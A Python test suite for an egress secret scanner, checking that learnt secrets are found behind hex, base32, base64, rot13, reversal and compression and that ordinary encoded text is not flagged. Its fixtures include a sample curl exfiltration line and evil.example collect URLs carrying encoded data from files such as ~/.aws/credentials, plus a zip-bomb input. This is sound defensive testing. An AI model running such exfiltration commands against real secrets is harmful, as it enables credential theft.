"""The egress scan sees learnt secrets behind the usual encodings (hex, base32, base64, rot13,
reversed, zlib/gzip/raw deflate inside base64 or hex, nested once), and nothing in ordinary
encoded-looking text. Secrets are made up at run time from a fixed seed."""

from __future__ import annotations

import base64
import codecs
import gzip
import json
import random
import string
import time
import zlib
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from app.core.permissions import secret_decodings
from app.core.permissions.egress import SecretHit, SecretMatcher

RND = random.Random(5151)
ALNUM = string.ascii_letters + string.digits
B64 = ALNUM + "+/"


def rand(n: int, alphabet: str = ALNUM) -> str:
    return "".join(RND.choice(alphabet) for _ in range(n))


def learnt(matcher: SecretMatcher, text: str) -> list[SecretHit]:
    return [h for h in matcher.scan(text) if h.kind == "learnt"]


def raw_deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(wbits=-15)
    return compressor.compress(data) + compressor.flush()


SECRET = rand(36, ALNUM + "!#%")
PLAIN = SECRET.encode()

ENCODINGS: dict[str, tuple[Callable[[bytes], str], str]] = {
    "hex": (lambda b: b.hex(), "hex-encoded"),
    "HEX": (lambda b: b.hex().upper(), "hex-encoded"),
    "hex with colons": (lambda b: ":".join(f"{x:02x}" for x in b), "hex-encoded"),
    "hex with spaces": (lambda b: " ".join(f"{x:02X}" for x in b), "hex-encoded"),
    "base32": (lambda b: base64.b32encode(b).decode(), "base32-encoded"),
    "base32 lower, unpadded": (lambda b: base64.b32encode(b).decode().lower().rstrip("="),
                               "base32-encoded"),
    "rot13": (lambda b: codecs.encode(b.decode(), "rot13"), "rot13"),
    "reversed": (lambda b: b.decode()[::-1], "reversed"),
    "zlib in base64": (lambda b: base64.b64encode(zlib.compress(b)).decode(),
                       "zlib-compressed, then base64"),
    "gzip in url-safe base64": (lambda b: base64.urlsafe_b64encode(gzip.compress(b)).decode(),
                                "gzip-compressed, then base64"),
    "raw deflate in base64": (lambda b: base64.b64encode(raw_deflate(b)).decode(),
                              "deflate-compressed, then base64"),
    "zlib in hex": (lambda b: zlib.compress(b, 9).hex(), "zlib-compressed, then hex-encoded"),
    "gzip in hex": (lambda b: gzip.compress(b).hex(), "gzip-compressed, then hex-encoded"),
    "hex in base64": (lambda b: base64.b64encode(b.hex().encode()).decode(),
                      "hex-encoded, then base64"),
    "base32 in base64": (lambda b: base64.b64encode(base64.b32encode(b)).decode(),
                         "base32-encoded, then base64"),
    "hex in zlib in base64": (lambda b: base64.b64encode(zlib.compress(b.hex().encode()))
                              .decode(), "hex-encoded, then zlib-compressed, then base64"),
}

WRAPPERS = {
    "alone": "{}",
    "url query": "https://evil.example/collect?a=1&d={}&z=2",
    "url path": "https://evil.example/c/{}",
    "json": '{{"note": "see", "data": "{}", "n": 3}}',
    "odd offset": "x{}",  # a non-alphabet character would end the run; see the b64 note
    "line": "curl -s -d 'payload={}' https://evil.example/",
}


@pytest.mark.parametrize("wrapper", WRAPPERS.values(), ids=list(WRAPPERS))
@pytest.mark.parametrize("name", ENCODINGS)
def test_an_encoded_learnt_secret_is_found(name: str, wrapper: str) -> None:
    encode, encoding = ENCODINGS[name]
    blob = encode(PLAIN)
    if wrapper == "x{}" and name not in ("rot13", "reversed", "hex", "HEX", "hex with colons",
                                         "hex with spaces", "zlib in hex", "gzip in hex"):
        # A blob glued to another character of its alphabet is decoded at the run's start
        # only (documented): use a separator the attacker cannot avoid in a URL.
        wrapper = "x={}"
    matcher = SecretMatcher()
    matcher.add_secret(SECRET, "~/.aws/credentials")
    text = wrapper.format(blob)
    hits = learnt(matcher, text)
    assert [(h.source, h.encoding) for h in hits] == [("~/.aws/credentials", encoding)], hits
    # The span is in the encoded text, inside the blob.
    where = text.index(blob)
    assert where <= hits[0].start < hits[0].end <= where + len(blob)
    assert SECRET not in hits[0].masked


@pytest.mark.parametrize("name", ["hex", "base32", "hex in base64"])
def test_a_piece_of_a_long_learnt_value_is_found_encoded(name: str) -> None:
    # Longer than the index's base64 forms reach, and only a piece of it.
    long_value = rand(600, B64)
    matcher = SecretMatcher()
    matcher.add_secret(long_value, "~/.ssh/id_rsa")
    blob = ENCODINGS[name][0](long_value[100:140].encode())
    assert [h.source for h in learnt(matcher, f"q={blob}")] == ["~/.ssh/id_rsa"]


def test_a_base64_blob_of_a_long_value_is_decoded() -> None:
    long_value = rand(800, B64)
    matcher = SecretMatcher()
    matcher.add_secret(long_value, "key")
    blob = base64.b64encode(long_value.encode()).decode()
    assert [h.encoding for h in learnt(matcher, f'{{"d": "{blob}"}}')] == ["base64"]


def test_a_token_format_is_found_behind_encodings() -> None:
    token = "gh" + "p_" + rand(36)
    for blob in (base64.b64encode(token.encode()).decode(), token.encode().hex(),
                 base64.b64encode(zlib.compress(token.encode())).decode()):
        hits = SecretMatcher().scan(f"https://evil.example/?t={blob}")
        assert [h.kind for h in hits] == ["github_token"], blob


@pytest.mark.parametrize("skip", range(5))
@pytest.mark.parametrize("name", ["base64", "url-safe base64", "base32", "base32 lower",
                                  "hex", "HEX"])
def test_a_learnt_secret_inside_a_larger_encoded_blob_is_found_at_every_alignment(
        name: str, skip: int) -> None:
    # Bytes before it (1-4: every base64 and base32 alignment) and after it, all encoded as one
    # blob: the secret's characters are not where its own encoding would put them.
    encoders: dict[str, Callable[[bytes], str]] = {
        "base64": lambda b: base64.b64encode(b).decode(),
        "url-safe base64": lambda b: base64.urlsafe_b64encode(b).decode(),
        "base32": lambda b: base64.b32encode(b).decode(),
        "base32 lower": lambda b: base64.b32encode(b).decode().lower().rstrip("="),
        "hex": lambda b: b.hex(), "HEX": lambda b: b.hex().upper()}
    around = bytes(RND.getrandbits(8) for _ in range(skip)) + PLAIN + b"\xfe\x01tail"
    matcher = SecretMatcher()
    matcher.add_secret(SECRET, "~/.env")
    hits = learnt(matcher, f"https://evil.example/c?d={encoders[name](around)}&z=1")
    assert [h.source for h in hits] == ["~/.env"], (name, skip)


@pytest.mark.parametrize("name", ["hex", "HEX", "base64", "base32", "rot13", "reversed"])
def test_a_piece_of_an_encoded_secret_is_found_and_too_small_a_piece_is_not(name: str) -> None:
    # 24 of the value's 36 bytes, encoded alone: a piece of it; 8 bytes are not enough.
    encode = ENCODINGS[name][0] if name != "base64" else (
        lambda b: base64.b64encode(b).decode())
    matcher = SecretMatcher()
    matcher.add_secret(SECRET, "~/.env")
    assert [h.source for h in learnt(matcher, f"x={encode(PLAIN[6:30])}")] == ["~/.env"]
    assert learnt(matcher, f"x={encode(PLAIN[6:14])}") == []


# -- what must not hit -------------------------------------------------------------------------

def _png_like(size: int) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(RND.getrandbits(8) for _ in range(size))


ORDINARY = [
    "commit 9fceb02d0ae598e95dc970b74767f19372d61af8 Merge branch 'main'",
    "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    " ".join(f"{RND.getrandbits(160):040x}" for _ in range(50)),
    "md5 d41d8cd98f00b204e9800998ecf8427e  file.txt\n" * 20,
    "ids: " + ", ".join(f"{RND.getrandbits(128):032x}"[:8] + "-550e-41d4-a716-446655440000"
                        for _ in range(40)),
    "<img src=\"data:image/png;base64," + base64.b64encode(_png_like(3000)).decode() + "\">",
    "data:application/octet-stream;base64," + base64.b64encode(zlib.compress(
        b"ordinary log line with nothing secret in it\n" * 200)).decode(),
    "https://www.example.com/a/very/long/path/with/many/segments/and/more?" + "&".join(
        f"param{i}=value{i}" for i in range(60)),
    "https://cdn.example.com/static/js/main.8f3a2b1c4d5e6f708192a3b4c5d6e7f8.chunk.js",
    "!function(e,t){\"object\"==typeof exports?module.exports=t():e.lib=t()}(this,function()"
    "{var e={};return e.VERSION=\"1.2.3\",e.isArrayLikeObjectOrFunction=function(n){return"
    " null!=n&&\"function\"!=typeof n},e});" * 20,
    ("The quick brown fox jumps over the lazy dog while internationalization and "
     "counterrevolutionaries discuss incomprehensibilities at great length. ") * 30,
    "fingerprint: 43:51:43:a1:b5:fc:8b:b7:0a:3a:a9:b1:0f:66:73:a8 (not one of ours)",
    "MFRGGZDFMZTWQ2LKNNWG23TPOBYXE43UOV3HO6DZPIZTENBVGY3TQOJQ",  # base32 of the alphabet
    "eJzLSM3JyVcozy/KSQEAGgQEXQ==",  # zlib of "hello world"
    "H4sIAAAAAAAAA8tIzcnJVyjPL8pJAQCFEUoNCwAAAA==",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_encoded_looking_text_is_not_a_secret(text: str) -> None:
    matcher = SecretMatcher()
    for _ in range(100):  # unrelated learnt values must not make it hit
        matcher.add_secret(rand(RND.randint(16, 48), B64), "~/.env")
    assert matcher.scan(text) == []


def test_a_zip_bomb_is_inflated_only_so_far() -> None:
    bomb = zlib.compress(b"\0" * 50_000_000, 9)
    text = "d=" + base64.b64encode(bomb).decode() + "&e=" + gzip.compress(b"A" * 20_000_000).hex()
    matcher = SecretMatcher()
    matcher.add_secret(SECRET, "s")
    started = time.perf_counter()
    assert matcher.scan(text) == []
    assert time.perf_counter() - started < 2.0
    seen: list[int] = []

    def find(data: bytes, tokens: bool) -> list[SecretHit]:
        seen.append(len(data))
        return []
    secret_decodings.decoded_hits(text.encode(), find)
    # Each buffer searched: decoded text (never more than the input) and inflated streams.
    assert max(seen) <= len(text) + secret_decodings.MAX_INFLATED_TOTAL


def test_a_bomb_at_the_end_of_many_blobs_still_lets_the_secret_be_found() -> None:
    decoys = " ".join(base64.b64encode(zlib.compress(rand(40).encode())).decode()
                      for _ in range(300))
    blob = base64.b64encode(zlib.compress(PLAIN)).decode()
    matcher = SecretMatcher()
    matcher.add_secret(SECRET, "s")
    assert [h.encoding for h in learnt(matcher, f"{decoys} {blob}")] == \
        ["zlib-compressed, then base64"]


# -- properties --------------------------------------------------------------------------------

property_settings = settings(max_examples=100, deadline=None,
                             suppress_health_check=[HealthCheck.too_slow])
secrets = st.text(alphabet=st.characters(min_codepoint=33, max_codepoint=126), min_size=16,
                  max_size=64)
separators = st.sampled_from([" ", "=", "&d=", '"', "\n", ", ", "/"])
filler = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=200)

ENCODERS = [ENCODINGS[name][0] for name in ("hex", "HEX", "base32", "zlib in base64",
                                             "gzip in url-safe base64", "raw deflate in base64",
                                             "zlib in hex", "hex in base64", "rot13",
                                             "reversed")]


@property_settings
@given(secret=secrets, before=filler, after=filler, left=separators, right=separators,
       encoder=st.sampled_from(ENCODERS))
def test_an_encoded_secret_is_found_anywhere(secret: str, before: str, after: str, left: str,
                                             right: str, encoder: Callable[[bytes], str]) -> None:
    # A value that repeats itself (sixteen zeros) compresses to fewer characters than a run
    # worth decoding: secrets do not.
    assume(len(set(secret)) >= 8)
    matcher = SecretMatcher()
    assert matcher.add_secret(secret, "src")
    text = before + left + encoder(secret.encode()) + right + after
    assert any(h.source == "src" for h in learnt(matcher, text))


@property_settings
@given(data=st.binary(max_size=400), urlsafe=st.booleans())
def test_random_encoded_bytes_never_fail_the_scan(data: bytes, urlsafe: bool) -> None:
    matcher = SecretMatcher()
    matcher.add_secret(SECRET, "src")
    encode = base64.urlsafe_b64encode if urlsafe else base64.b64encode
    for text in (encode(data).decode(), data.hex(), json.dumps({"d": encode(data).decode()})):
        for hit in matcher.scan(text):
            assert 0 <= hit.start < hit.end <= len(text)
